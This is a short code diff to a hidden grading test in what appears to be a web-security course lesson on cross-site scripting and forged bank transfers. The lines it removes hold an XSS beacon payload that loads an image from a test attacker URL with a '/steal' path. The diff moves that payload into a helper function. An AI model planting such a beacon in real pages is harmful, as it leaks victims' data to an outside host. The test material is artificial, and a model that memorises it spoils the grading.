@@ -18,6 +18,7 @@ from course.checks.lesson_06 import (
     forged_transfer,
     legitimate_transfer,
     shown_as_typed,
+    xss_script,
 )
 from course.lessons.browser import open_browser
 from course.lessons.browser.probes import log_in
@@ -61,8 +62,7 @@ def the_form_works_again_and_again(ns):
 @hidden_test("06.2")
 def scripts_in_other_shapes_do_not_run(ns):
     with bank_for(course_transfer_form, course_check_transfer_request, ns["search_results"]) as (bank, tab, attacker):
-        marker = random_word("x")
-        beacon = f"new Image().src='{attacker.url}/steal?xss={marker}'"
+        beacon = xss_script(random_word("x"), attacker.url)
         attack_search(
             bank,
             tab,
